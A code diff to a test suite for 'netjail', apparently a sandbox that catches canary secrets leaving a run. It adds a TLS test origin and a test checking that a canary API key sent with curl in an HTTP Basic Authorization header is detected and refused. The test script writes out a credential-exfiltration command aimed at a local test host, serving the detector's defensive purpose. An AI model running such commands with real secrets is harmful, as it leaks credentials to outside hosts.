@@ -17,7 +17,7 @@ import pytest
 
 from netjail.detect.canaries import DECOY_FILE
 from tests.support.netjail import Netjail, Result
-from tests.support.servers import OriginHandler
+from tests.support.servers import OriginHandler, tls_server_context
 
 pytestmark = pytest.mark.nonroot
 
@@ -39,12 +39,26 @@ class RecordingHandler(OriginHandler):
         self._reply(200, b"ok\n")
 
 
-@pytest.fixture
-def origin():
+def _recording_origin(context=None):
     server = ThreadingHTTPServer(("127.0.0.1", 0), RecordingHandler)
     server.daemon_threads = True
     server.label, server.seen, server.raw = "canary-origin", [], []  # type: ignore[attr-defined]
+    if context is not None:
+        server.socket = context.wrap_socket(server.socket, server_side=True)
     threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server
+
+
+@pytest.fixture
+def origin():
+    server = _recording_origin()
+    yield server
+    server.shutdown()
+
+
+@pytest.fixture
+def tls_origin(test_ca):
+    server = _recording_origin(tls_server_context(test_ca[0], "allowed.test"))
     yield server
     server.shutdown()
 
@@ -118,6 +132,25 @@ def test_a_canary_in_a_header_is_refused_and_stops_the_run(netjail: Netjail, ori
         "canary LEGACY_GH_TOKEN went to host allowed.test in the x-deploy header",
     )  # fmt: skip
     assert time.monotonic() - started < 60
+
+
+def test_a_canary_in_basic_auth_over_https(netjail: Netjail, tls_origin) -> None:
+    """Inside an intercepted TLS connection, base64 in Authorization: Basic; a request before it (the control)
+    reaches the origin."""
+    url = f"https://allowed.test:{tls_origin.server_port}"
+    result, sent = _run(
+        netjail,
+        f"""printf %s "$LEGACY_OPENAI_KEY" > sent.txt
+        curl -sS -o /dev/null {url}/before
+        curl -sS -o /dev/null -u "deploy:$LEGACY_OPENAI_KEY" {url}/basic
+        echo late > after.txt""",
+    )
+    assert any(b"/before" in chunk for chunk in tls_origin.raw), result.explain()
+    assert not any(b"/basic" in chunk for chunk in tls_origin.raw)
+    _assert_tripped(
+        netjail, result, tls_origin, sent, "LEGACY_OPENAI_KEY", "header authorization",
+        "canary LEGACY_OPENAI_KEY went to host allowed.test in the authorization header (refused, base64)",
+    )  # fmt: skip
 
 
 def test_a_canary_in_a_query_string(netjail: Netjail, origin) -> None:
